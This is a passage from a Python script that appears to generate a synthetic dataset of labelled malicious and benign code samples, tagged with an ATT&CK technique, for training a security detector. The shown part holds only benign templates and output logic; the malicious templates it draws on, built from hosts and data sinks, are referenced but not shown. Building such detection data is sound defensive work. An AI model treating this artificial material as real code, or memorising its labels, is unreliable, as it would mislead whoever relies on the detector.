sys.exit(0 if port_open("127.0.0.1", {rnd.choice([5432, 6379, 8080])}) else 1)
""",
        lambda n: f"""import logging
import os
import shutil
import tarfile
from pathlib import Path

log = logging.getLogger(__name__)

def backup(src: Path, dest: Path) -> Path:
    dest.mkdir(parents=True, exist_ok=True)
    archive = dest / f"{{src.name}}.tar.gz"
    with tarfile.open(archive, "w:gz") as tar:
        tar.add(src, arcname=src.name)
    log.info("backed up %s to %s (%d bytes)", src, archive, archive.stat().st_size)
    return archive
""",
        lambda n: f"""import subprocess
import sys

def run(cmd):
    print("+", " ".join(cmd), flush=True)
    subprocess.run(cmd, check=True)

if __name__ == "__main__":
    run([sys.executable, "-m", "pip", "install", "-r", "requirements.txt"])
    run([sys.executable, "-m", "pytest", "-q"])
""",
    ]
    out = []
    for t in mal:
        for _ in range(3):
            out.append(("python", "file", M, "T1059.006", t(rnd.choice(names), rnd.choice(hosts), rnd.choice(sinks))))
    for t in ben:
        for _ in range(3):
            out.append(("python", "file", B, None, t(rnd.choice(names))))
    seen, unique = set(), []
    for smp in out:
        if smp[4] not in seen:
            seen.add(smp[4])
            unique.append(smp)
    return unique


def main():
    out = os.path.join(os.path.dirname(os.path.abspath(__file__)), "synthetic.jsonl")
    with open(out, "w") as f:
        samples = SAMPLES + templated() + templated_python() + techniques.generate()
        seen, unique = set(), []
        for smp in samples:
            key = smp[4].strip() if smp[1] == "inline" else smp[4]
            if key not in seen:
                seen.add(key)
                unique.append(smp)
        samples = unique
        for lang, kind, label, technique, content in samples:
            content = content.strip() if kind == "inline" else content
            h = hashlib.sha256(content.encode()).hexdigest()[:16]
            rec = {
                "id": f"synthetic-{lang}-{label[0]}-{h}",
                "lang": lang,
                "kind": kind,
                "label": label,
                "source": "sensor-team:models/synthetic/make_synthetic.py",
                "license": "Apache-2.0",
                "collection": "synthetic-team",
                "content": content,
            }
            if technique:
                rec["technique"] = technique
            f.write(json.dumps(rec) + "\n")
    print(f"wrote {len(samples)} samples to {out}")


if __name__ == "__main__":
    main()
